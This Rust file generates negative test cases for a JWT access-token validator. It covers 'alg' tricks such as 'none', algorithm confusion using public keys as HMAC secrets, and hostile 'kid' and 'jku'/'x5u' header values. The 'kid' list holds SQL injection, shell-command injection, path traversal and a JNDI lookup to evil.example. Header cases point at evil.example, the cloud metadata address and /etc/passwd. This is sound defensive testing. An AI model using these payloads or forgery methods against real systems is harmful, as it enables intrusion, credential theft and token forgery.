//! `alg`, `kid`, and keys that the token brings along: R01 to R04.

use super::{
    make::*,
    row::{ALGORITHM, HEADER, HEADER_LONG, KEY, KEYS_ALGORITHM, Keys, Row, Sheet, TYP},
};

pub fn rows(rows: &mut Vec<Row>) {
    names(rows);
    none(rows);
    families(rows);
    confusion(rows);
    key_ids(rows);
    keys_in_the_header(rows);
}

fn with_alg(keys: Keys, alg: &str) -> String {
    format!(r#"{{"typ":"at+jwt","alg":{alg},"kid":"{}"}}"#, key_id(keys))
}

/// Whatever is written for `alg`, the key's own MAC is under it.
fn names(rows: &mut Vec<Row>) {
    let keys = Keys::Hs256;
    let mut sheet = Sheet { rows, class: "alg", req: "R01 R02", keys };
    let payload = Payload::good().text();
    sheet.good("the key's own", good(keys));
    sheet.good("the key's own, escaped", token(keys, with_alg(keys, r#""\u0048S256""#), &payload));
    for alg in [
        "none",
        "None",
        "NONE",
        "nOnE",
        "none ",
        " none",
        "\\u006eone",
        "none\\u0000",
        "",
        " ",
        "hs256",
        "Hs256",
        "HS256 ",
        " HS256",
        "HS256\\u0000",
        "HS-256",
        "HMACSHA256",
        "HS384",
        "HS512",
        "HS1",
        "PS256",
        "PS384",
        "RS384",
        "RS512",
        "RS1",
        "ES384",
        "ES512",
        "ES256K",
        "Ed448",
        "A128KW",
        "A128GCM",
        "dir",
        "RSA-OAEP",
        "PBES2-HS256+A128KW",
        "HS256,none",
        "HS256|none",
        "ML-DSA-44",
        "*",
    ] {
        let header = with_alg(keys, &format!("\"{alg}\""));
        sheet.bad(format!("{alg:?} over the right MAC"), token(keys, header, &payload), ALGORITHM);
    }
    for alg in [
        "null",
        "[]",
        r#"["HS256"]"#,
        r#"["HS256","none"]"#,
        "{}",
        r#"{"HS256":1}"#,
        "0",
        "5",
        "-4",
        "true",
    ] {
        sheet.bad(
            format!("{alg} over the right MAC"),
            token(keys, with_alg(keys, alg), &payload),
            HEADER,
        );
    }
    for (name, header) in [
        ("missing", r#"{"typ":"at+jwt","kid":"k1"}"#),
        ("twice, the same", r#"{"typ":"at+jwt","alg":"HS256","alg":"HS256","kid":"k1"}"#),
        ("twice, none first", r#"{"typ":"at+jwt","alg":"none","alg":"HS256","kid":"k1"}"#),
        ("twice, none last", r#"{"typ":"at+jwt","alg":"HS256","kid":"k1","alg":"none"}"#),
        ("twice, once escaped", r#"{"typ":"at+jwt","alg":"HS256","\u0061lg":"none","kid":"k1"}"#),
        ("in capitals", r#"{"typ":"at+jwt","ALG":"HS256","kid":"k1"}"#),
        ("beside one in capitals", r#"{"typ":"at+jwt","alg":"HS256","Alg":"none","kid":"k1"}"#),
    ] {
        sheet.bad(name, token(keys, header, &payload), HEADER);
    }
}

/// Without a signature, and with somebody else's word for it.
fn none(rows: &mut Vec<Row>) {
    for keys in [Keys::Hs256, Keys::Es256, Keys::EdDsa, Keys::Rs256] {
        if !keys.are_known() {
            continue;
        }
        let mut sheet = Sheet { rows, class: "alg-none", req: "R02", keys };
        if keys != Keys::Hs256 {
            sheet.good("the key's own", good(keys));
        }
        let payload = encode(Payload::good().text());
        for alg in ["none", "None", "NONE", "nOnE", ""] {
            let input = format!("{}.{payload}", encode(with_alg(keys, &format!("\"{alg}\""))));
            sheet.bad(format!("{alg:?}, no signature"), format!("{input}."), ALGORITHM);
            sheet.bad(
                format!("{alg:?}, a signature of one byte"),
                format!("{input}.AA"),
                ALGORITHM,
            );
        }
        let header = encode(r#"{"typ":"JWT","alg":"none"}"#);
        sheet.bad("the header of RFC 7519's example", format!("{header}.{payload}."), HEADER);
    }
}

/// A key of one family, and a right signature of another's.
fn families(rows: &mut Vec<Row>) {
    let families = [Keys::Hs256, Keys::Es256, Keys::EdDsa, Keys::Rs256];
    for keys in families.into_iter().filter(|keys| keys.are_known()) {
        Sheet { rows, class: "alg-family", req: "R01", keys }
            .good("signed by its own key", good(keys));
        for other in families.into_iter().filter(|other| *other != keys && other.are_known()) {
            let mut sheet = Sheet { rows, class: "alg-family", req: "R01", keys };
            let header = with_alg(keys, &format!("{:?}", algorithm(other)));
            let bad = token(other, &header, Payload::good().text());
            sheet.bad(format!("signed by the key of {}", other.name()), bad, KEYS_ALGORITHM);
            let bad = token(keys, &header, Payload::good().text());
            sheet.bad(format!("{} over its own signature", algorithm(other)), bad, KEYS_ALGORITHM);
        }
    }
}

/// HS256 under a public key that everybody knows (CVE-2015-9235 and its kin).
fn confusion(rows: &mut Vec<Row>) {
    #[cfg(any(feature = "aws-lc-rs", feature = "rust-crypto"))]
    for keys in [Keys::Es256, Keys::EdDsa, Keys::Rs256].into_iter().filter(|keys| keys.are_known())
    {
        let secret = secret_key(keys);
        let jwk = secret.public().unwrap().to_jwk();
        let (pem, der) = super::make::public_forms(keys);
        let raw = jwk.get("x").or(jwk.get("n")).unwrap().as_str().unwrap().to_owned();
        let mut sheet = Sheet { rows, class: "alg-confusion", req: "R01 R16", keys };
        sheet.good("signed by the private key", good(keys));
        for (name, secret) in [
            ("PEM", pem.as_bytes().to_vec()),
            ("PEM without its last newline", pem.trim_end().as_bytes().to_vec()),
            ("PEM in one line", pem.replace('\n', "").into_bytes()),
            ("DER", der.clone()),
            ("DER as base64url", encode(&der).into_bytes()),
            ("JWK", jwk.to_string().into_bytes()),
            ("JWKS", format!(r#"{{"keys":[{jwk}]}}"#).into_bytes()),
            ("the coordinate or modulus as text", raw.into_bytes()),
            ("thumbprint", secret.public().unwrap().thumbprint().into_bytes()),
            ("id", key_id(keys).as_bytes().to_vec()),
            ("nothing", Vec::new()),
        ] {
            let input = format!(
                "{}.{}",
                encode(with_alg(keys, r#""HS256""#)),
                encode(Payload::good().text())
            );
            let token = format!("{input}.{}", encode(hmac(&secret, input.as_bytes())));
            sheet.bad(
                format!("HS256 with the public key as secret: {name}"),
                token,
                KEYS_ALGORITHM,
            );
        }
    }
    let _ = rows;
}

/// Signed with the right key under a wrong name.
fn key_ids(rows: &mut Vec<Row>) {
    let keys = Keys::Hs256;
    let mut sheet = Sheet { rows, class: "kid", req: "R03", keys };
    let named = |kid: &str| {
        token(
            keys,
            format!(r#"{{"typ":"at+jwt","alg":"HS256","kid":{kid}}}"#),
            Payload::good().text(),
        )
    };
    sheet.good("escaped", named(r#""\u006b1""#));
    let long = "k".repeat(65);
    for kid in [
        "",
        " ",
        "k2",
        "K1",
        "k",
        "1",
        "k1 ",
        " k1",
        "k1\\u0000",
        "\\u0000",
        "k1\\n",
        "k1\\u0000k2",
        "0",
        "-1",
        "../../../../dev/null",
        "/dev/null",
        "/proc/self/environ",
        "..\\\\..\\\\k1",
        "./k1",
        "k1/../k1",
        "file:///dev/null",
        "https://evil.example/jwks.json",
        "//evil.example/k1",
        "k1' OR '1'='1",
        "k1' UNION SELECT 'secret' -- ",
        "k1\\\"; DROP TABLE keys; --",
        "'; EXEC xp_cmdshell('id') --",
        "$(id)",
        "`id`",
        "| id",
        "k1; id",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "*",
        "k*",
        "%6b1",
        "k1%00",
        "*)(kid=*",
        "\u{ff4b}1",
        "k\u{200b}1",
        "\u{202e}1k",
        "k1\u{301}",
        "default",
        "null",
        "undefined",
        "r1",
        long.as_str(),
    ] {
        sheet.bad(format!("{:?}", kid.get(..40).unwrap_or(kid)), named(&format!("\"{kid}\"")), KEY);
    }
    for kid in ["null", "1", "0", "1.5", "true", "[]", r#"["k1"]"#, r#"{"kid":"k1"}"#] {
        sheet.bad(kid, named(kid), HEADER);
    }
    for (name, header) in [
        ("missing", r#"{"typ":"at+jwt","alg":"HS256"}"#),
        ("twice, the same", r#"{"typ":"at+jwt","alg":"HS256","kid":"k1","kid":"k1"}"#),
        ("twice, another first", r#"{"kid":"k2","typ":"at+jwt","alg":"HS256","kid":"k1"}"#),
        ("twice, once escaped", r#"{"typ":"at+jwt","alg":"HS256","kid":"k2","k\u0069d":"k1"}"#),
    ] {
        sheet.bad(name, token(keys, header, Payload::good().text()), HEADER);
    }
    sheet.bad("5 kB", named(&format!("\"{}\"", "k".repeat(5000))), HEADER_LONG);
}

/// A key, or the place of one, in the header: with the right signature, and with that of the key it
/// brings.
fn keys_in_the_header(rows: &mut Vec<Row>) {
    let keys = Keys::Hs256;
    let mut sheet = Sheet { rows, class: "key-in-header", req: "R04", keys };
    sheet.good("no key at all", good(keys));
    let evil = [b'e'; 32];
    let oct = format!(r#"{{"kty":"oct","k":"{}"}}"#, encode(evil));
    let private = format!(r#"{{"kty":"OKP","crv":"Ed25519","x":"{ED_PUBLIC}","d":"{ED_SEED}"}}"#);
    let public = format!(r#"{{"kty":"OKP","crv":"Ed25519","x":"{ED_PUBLIC}"}}"#);
    for (name, member) in [
        ("jwk, symmetric", format!(r#""jwk":{oct}"#)),
        ("jwk, symmetric, with our id", format!(r#""jwk":{{"kid":"k1",{}"#, &oct[1..])),
        ("jwk, public", format!(r#""jwk":{public}"#)),
        ("jwk, private", format!(r#""jwk":{private}"#)),
        ("jwk, null", r#""jwk":null"#.to_owned()),
        ("jwk, empty", r#""jwk":{}"#.to_owned()),
        ("jwk, escaped", format!(r#""\u006awk":{oct}"#)),
        ("jwks", format!(r#""jwks":{{"keys":[{oct}]}}"#)),
        ("jku", r#""jku":"https://evil.example/jwks.json""#.to_owned()),
        (
            "jku, of the metadata service",
            r#""jku":"http://169.254.169.254/latest/meta-data""#.to_owned(),
        ),
        ("jku, a file", r#""jku":"file:///etc/passwd""#.to_owned()),
        ("x5u", r#""x5u":"https://evil.example/cert.pem""#.to_owned()),
        ("x5c", r#""x5c":["MIIB"]"#.to_owned()),
        ("x5c, empty", r#""x5c":[]"#.to_owned()),
        ("x5t", r#""x5t":"AAAAAAAAAAAAAAAAAAAAAAAAAAA""#.to_owned()),
        ("x5t#S256", r#""x5t#S256":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA""#.to_owned()),
        ("k", format!(r#""k":"{}""#, encode(evil))),
    ] {
        let header = format!(r#"{{"typ":"at+jwt","alg":"HS256","kid":"k1",{member}}}"#);
        sheet.bad(name, token(keys, &header, Payload::good().text()), HEADER);
        let input = format!("{}.{}", encode(header), encode(Payload::good().text()));
        let forged = format!("{input}.{}", encode(hmac(&evil, input.as_bytes())));
        sheet.bad(format!("{name}, signed by it"), forged, HEADER);
    }
    let header = r#"{"typ":"dpop+jwt","alg":"HS256","kid":"k1"}"#;
    sheet.bad(
        "the type of a token that brings its key",
        token(keys, header, Payload::good().text()),
        TYP,
    );
}
